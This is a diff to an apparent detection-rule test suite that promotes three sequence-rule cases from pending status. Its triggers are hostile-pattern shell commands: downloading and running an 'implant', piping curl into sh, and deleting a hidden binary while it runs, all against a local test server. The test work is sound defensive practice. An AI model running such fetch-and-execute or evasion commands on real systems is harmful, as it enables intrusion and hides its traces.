@@ -285,16 +285,16 @@ BENIGN = [
          ''', where=("host",), needs=["ssh-keygen", "scp"]),
 ]
 
-# Sequence rules (rules/pending/execution.yaml): run with --pending.
+# Sequence rules (the end of rules/10_execution.yaml).
 CASES += [
-    Case(id="execution.pending.download_then_exec", tactic="execution", technique="T1105",
-         rules=["Downloaded File Executed"], pending=True,
+    Case(id="execution.seq.download_then_exec", tactic="execution", technique="T1105",
+         rules=["Downloaded File Executed"],
          trigger=SERVE + r'''
             curl -fsS -o /tmp/dl.$$ "http://127.0.0.1:$DET_PORT2/implant"
             chmod 700 /tmp/dl.$$ && /tmp/dl.$$
          ''', cleanup='rm -f /tmp/dl.*', where=BOTH, needs=["curl"]),
-    Case(id="execution.pending.deleted_binary_running", tactic="defense_evasion", technique="T1070.004",
-         rules=["Running Program's Executable Deleted"], pending=True,
+    Case(id="execution.seq.deleted_binary_running", tactic="defense_evasion", technique="T1070.004",
+         rules=["Running Program's Executable Deleted"],
          trigger=r'''
             cp /bin/sleep /var/tmp/.kdevtmp.$$
             /var/tmp/.kdevtmp.$$ 3 &
@@ -303,8 +303,8 @@ CASES += [
             wait
          ''', cleanup='rm -f /var/tmp/.kdevtmp.*', where=BOTH),
     # curl | sh typed in a script: no single command line holds both ends.
-    Case(id="execution.pending.curl_pipe_sh_in_script", tactic="execution", technique="T1059.004",
-         rules=["Downloader and Shell Started by the Same Parent"], pending=True,
+    Case(id="execution.seq.curl_pipe_sh_in_script", tactic="execution", technique="T1059.004",
+         rules=["Downloader and Shell Started by the Same Parent"],
          trigger=SERVE + r'''
             curl -fsSL "http://127.0.0.1:$DET_PORT2/stage.sh" | sh
          ''', where=BOTH, needs=["curl"]),
